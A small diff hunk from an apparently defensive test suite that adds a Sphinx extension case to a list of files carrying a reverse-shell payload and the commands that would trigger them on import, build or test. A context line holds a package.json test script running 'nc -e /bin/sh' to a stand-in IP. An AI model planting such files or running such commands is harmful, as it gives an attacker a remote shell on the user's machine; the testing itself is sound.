@@ -63,6 +63,7 @@ async def _run(
         ("pkg/__init__.py", REVERSE_SHELL_PY, "python3 -c 'import pkg.mod'"),
         ("sitecustomize.py", REVERSE_SHELL_PY, "PYTHONPATH=. python3 -c 'print(1)'"),
         ("docs/conf.py", REVERSE_SHELL_PY, "sphinx-build -b html docs out"),
+        ("ext1.py", REVERSE_SHELL_PY, "sphinx-build -D extensions=ext1 -c /workspace docs out"),
         (
             "sub/package.json",
             json.dumps({"scripts": {"test": "nc -e /bin/sh 203.0.113.7 4444"}}),
